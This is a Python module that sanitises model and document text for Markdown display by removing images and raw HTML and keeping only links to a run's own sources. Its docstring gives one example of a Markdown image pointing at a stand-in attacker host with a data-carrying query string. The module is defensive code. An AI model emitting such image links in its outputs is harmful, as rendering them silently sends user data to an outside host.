"""Make model and document text safe to show as Markdown: no images, no raw HTML, no foreign links.

Answers, questions, titles and error texts can carry ``![x](http://attacker/?q=...)``: rendered as
Markdown, every viewer's browser would fetch that URL. ``safe_markdown`` rewrites only what is
dangerous (formatting, citations and code stay as written), then checks the result with a real
CommonMark parser; if anything unsafe is left, the whole text is shown as escaped plain text.
Links survive only when they point at one of the run's own sources (``source_links``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from markdown_it import MarkdownIt

_PARSER = MarkdownIt("commonmark")  # raw HTML on, so the check sees it

# fenced code blocks (to the closing fence or the end) and inline code spans render as code, never as links
_CODE = re.compile(r"(?ms)^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^ {0,3}(?P=fence)[`~]*[ \t]*$|\Z)"
                   r"|(?<!`)(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)")
_LABEL = r"(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*"
_DEST = r"<[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*"
_TITLE = r"\"[^\"]*\"|'[^']*'|\([^()]*\)"
_INLINE_LINK = re.compile(rf"(?<!\\)(?P<bang>!?)\[(?P<text>{_LABEL})\]\(\s*(?P<dest>{_DEST})(?:\s+(?:{_TITLE}))?\s*\)")
_INLINE_IMAGE = re.compile(_INLINE_LINK.pattern.replace("(?P<bang>!?)", "(?P<bang>!)"))
_REFERENCE_DEFINITION = re.compile(r"(?m)^( {0,3})\[(?=[^\]\n]*\]:)")
_IMAGE_START = re.compile(r"(?<!\\)!\[")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
# what GitHub-flavoured Markdown links by itself, even in text whose marks were escaped: bare URLs and
# e-mail addresses. In source text a backslash may sit inside the scheme ("http\://"): still a URL once parsed.
_BARE_URL = re.compile(r"(?i)(?:https?\\?:\\?/\\?/|www\\?\.)[^\s<>\[\]`]*")
_EMAIL = re.compile(r"[\w.+-]+\\?@[\w-]+(?:\.[\w-]+)+")
_TRAILING = ".,:;!?'\")]*_~"
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
_LINKLIKE = re.compile(f"{_BARE_URL.pattern}|{_EMAIL.pattern}")


def source_links(result: dict) -> set[str]:
    """The http(s) URLs of a run's own sources: the only links its answer may keep."""
    return {str(s["url"]) for s in result.get("sources") or [] if _is_http(str(s.get("url") or ""))}


def safe_markdown(text: str, links: Iterable[str] = ()) -> str:
    """``text`` as Markdown without images or raw HTML; links only to ``links`` (http/https)."""
    text = str(text or "")
    allowed = {u for u in links if _is_http(u)}
    out, last = [], 0
    for code in _CODE.finditer(text):
        out += [_sanitise_prose(text[last:code.start()], allowed), code.group(0)]
        last = code.end()
    out.append(_sanitise_prose(text[last:], allowed))
    safe = "".join(out)
    return safe if _is_safe(safe, allowed) else plain_markdown(text)


def plain_markdown(text: str) -> str:
    """``text`` shown exactly as written: every Markdown mark escaped, URLs and e-mails as code, lines kept."""
    text, out, last = str(text or ""), [], 0
    for match in _LINKLIKE.finditer(text):
        core = match.group(0).rstrip(_TRAILING) or match.group(0)
        out += [_escape(text[last:match.start()]), _code(core)]
        last = match.start() + len(core)
    out.append(_escape(text[last:]))
    return "".join(out).replace("\r\n", "\n").replace("\n", "  \n")


def _escape(text: str) -> str:
    return _PUNCTUATION.sub(r"\\\1", text)


def _is_http(url: str) -> bool:
    return url.lower().startswith(("http://", "https://"))


def _sanitise_prose(text: str, allowed: set[str]) -> str:
    """Images become their text, foreign links their text and URL; links to ``allowed`` stay links."""
    def as_text(match: re.Match) -> str:
        label, dest = match.group("text"), match.group("dest").strip("<>")
        return f"{label} ({dest})" if dest and dest != label else label

    text = _INLINE_IMAGE.sub(as_text, text)  # images first: a link may wrap one
    out, last = [], 0
    for link in _INLINE_LINK.finditer(text):
        if link.group("dest").strip("<>") in allowed:
            tail = link.group(0)[link.end("text") - link.start():]  # "](url ...)" as written
            out += [_defuse(text[last:link.start()] + "[" + link.group("text"), allowed), tail]
        else:
            out.append(_defuse(text[last:link.start()] + as_text(link), allowed))
        last = link.end()
    out.append(_defuse(text[last:], allowed))
    return "".join(out)


def _defuse(text: str, allowed: set[str]) -> str:
    """Text that holds no link syntax of its own: definitions, image marks and tags escaped, foreign URLs as code."""
    text = _REFERENCE_DEFINITION.sub(r"\1\\[", text)  # `[x]: url` would turn `[x]` anywhere into a link
    text = _IMAGE_START.sub(r"!\\[", text)
    text = _TAG_START.sub(r"\\<", text)  # raw HTML and <autolinks> become text

    def bare(match: re.Match) -> str:
        url = match.group(0)
        core = url.rstrip(_TRAILING) or url
        return url if core in allowed else _code(core) + url[len(core):]

    pieces, last = [], 0
    for match in _BARE_URL.finditer(text):  # emails between URLs; an email inside a URL is code already
        pieces += [_EMAIL.sub(lambda m: _code(m.group(0)), text[last:match.start()]), bare(match)]
        last = match.end()
    pieces.append(_EMAIL.sub(lambda m: _code(m.group(0)), text[last:]))
    return "".join(pieces)


def _code(text: str) -> str:
    """An inline code span holding ``text`` exactly: code is never turned into a link."""
    ticks = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


def _is_safe(markdown: str, allowed: set[str]) -> bool:
    """Parse the result: no image, no raw HTML, no link outside ``allowed``, no text GFM would link."""
    targets = {_PARSER.normalizeLink(u) for u in allowed}
    for block in _PARSER.parse(markdown):
        if block.type == "html_block":
            return False
        in_link = 0
        for node in block.children or []:
            if node.type in ("image", "html_inline"):
                return False
            if node.type == "link_open":
                if node.attrGet("href") not in targets:
                    return False
                in_link += 1
            elif node.type == "link_close":
                in_link -= 1
            elif node.type == "text" and not in_link and _would_link(node.content, allowed):
                return False
    return True


def _would_link(text: str, allowed: set[str]) -> bool:
    """Whether GFM's autolinking would find a link in this (already unescaped) text that is not allowed."""
    return bool(_EMAIL.search(text)) or any(m.group(0).rstrip(_TRAILING) not in allowed for m in _BARE_URL.finditer(text))
